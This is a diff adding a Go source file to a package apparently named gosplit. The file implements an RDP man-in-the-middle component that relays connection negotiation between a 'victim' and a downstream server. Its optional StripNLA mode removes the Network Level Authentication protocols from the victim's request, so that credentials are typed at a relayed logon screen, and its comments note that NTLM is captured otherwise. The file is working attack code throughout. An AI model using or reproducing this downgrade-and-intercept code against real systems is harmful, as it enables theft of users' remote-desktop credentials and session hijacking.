@@ -0,0 +1,117 @@
+package gosplit
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+)
+
+const (
+	tpktHeaderLen = 4
+	// x224FixedLen is the length of the fixed part of the X.224
+	// connection request and confirm TPDUs, including the length
+	// indicator.
+	x224FixedLen          = 7
+	x224ConnectionRequest = 0xe0
+	x224ConnectionConfirm = 0xd0
+
+	rdpNegLen = 8
+	rdpNegReq = 0x01
+	rdpNegRsp = 0x02
+
+	// security protocols requested by clients and selected by servers
+	rdpProtocolRDP      = 0x00 // standard rdp security, without tls
+	rdpProtocolHybrid   = 0x02 // credssp, i.e., nla
+	rdpProtocolHybridEx = 0x08 // credssp with early user authorization
+)
+
+// RDPStartTLS is an Upgrader for RDP connections, which negotiate the
+// security protocol using X.224 Connection Request and Confirm TPDUs
+// before the TLS handshake.
+//
+// Network Level Authentication (NLA) is performed using CredSSP after
+// the TLS handshake. CredSSP binds the credentials to the certificate
+// presented to the victim, so downstreams reject them, though NTLM
+// exchanged by the victim is captured. StripNLA removes the CredSSP
+// protocols from the victim's request, so that downstreams that don't
+// require NLA fall back to TLS and credentials are entered at the
+// downstream's logon screen.
+type RDPStartTLS struct {
+	StripNLA bool
+}
+
+// Upgrade implements Upgrader.
+func (u RDPStartTLS) Upgrade(_ context.Context, victim, downstream net.Conn) (bool, error) {
+	req, err := readTPKT(victim)
+	if err != nil {
+		return false, fmt.Errorf("error reading rdp connection request: %w", err)
+	}
+	if neg := rdpNegotiation(req, x224ConnectionRequest, rdpNegReq); neg != nil && u.StripNLA {
+		protocols := binary.LittleEndian.Uint32(neg[4:])
+		binary.LittleEndian.PutUint32(neg[4:], protocols&^(rdpProtocolHybrid|rdpProtocolHybridEx))
+	}
+	if _, err = downstream.Write(req); err != nil {
+		return false, fmt.Errorf("error relaying rdp connection request: %w", err)
+	}
+
+	resp, err := readTPKT(downstream)
+	if err != nil {
+		return false, fmt.Errorf("error reading rdp connection confirm: %w", err)
+	} else if _, err = victim.Write(resp); err != nil {
+		return false, fmt.Errorf("error relaying rdp connection confirm: %w", err)
+	}
+	// each protocol other than standard rdp security begins with a tls
+	// handshake, while failures end the connection
+	neg := rdpNegotiation(resp, x224ConnectionConfirm, rdpNegRsp)
+	return neg != nil && binary.LittleEndian.Uint32(neg[4:]) != rdpProtocolRDP, nil
+}
+
+// readTPKT reads a TPKT, including its header, from r without reading
+// beyond its end.
+func readTPKT(r io.Reader) ([]byte, error) {
+	hdr := make([]byte, tpktHeaderLen)
+	if _, err := io.ReadFull(r, hdr); err != nil {
+		return nil, err
+	} else if hdr[0] != 3 {
+		return nil, errors.New("not a tpkt")
+	}
+	l := int(binary.BigEndian.Uint16(hdr[2:]))
+	if l < tpktHeaderLen {
+		return nil, errors.New("malformed tpkt length")
+	}
+	b := make([]byte, l)
+	copy(b, hdr)
+	_, err := io.ReadFull(r, b[tpktHeaderLen:])
+	return b, err
+}
+
+// rdpNegotiation returns the negotiation request or response of an
+// X.224 TPDU with the given code, or nil when it has none. The returned
+// slice shares b's memory.
+func rdpNegotiation(b []byte, code, negType byte) []byte {
+	if len(b) < tpktHeaderLen+x224FixedLen || b[tpktHeaderLen+1] != code {
+		return nil
+	}
+	end := tpktHeaderLen + 1 + int(b[tpktHeaderLen])
+	if end > len(b) {
+		return nil
+	}
+	v := b[tpktHeaderLen+x224FixedLen : end]
+	// requests may begin with a cookie or routing token ending in a
+	// line break
+	if bytes.HasPrefix(v, []byte("Cookie:")) {
+		i := bytes.Index(v, []byte("\r\n"))
+		if i < 0 {
+			return nil
+		}
+		v = v[i+2:]
+	}
+	if len(v) < rdpNegLen || v[0] != negType || binary.LittleEndian.Uint16(v[2:]) != rdpNegLen {
+		return nil
+	}
+	return v[:rdpNegLen]
+}